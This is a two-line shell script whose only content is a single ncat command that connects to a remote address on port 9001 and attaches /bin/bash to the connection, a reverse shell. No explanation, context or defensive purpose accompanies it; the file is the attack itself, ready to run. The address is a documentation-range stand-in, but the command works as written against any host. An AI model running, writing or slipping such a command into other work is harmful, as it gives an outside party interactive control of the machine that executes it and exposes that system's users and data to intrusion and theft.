#!/bin/sh
ncat 203.0.113.9 9001 -e /bin/bash
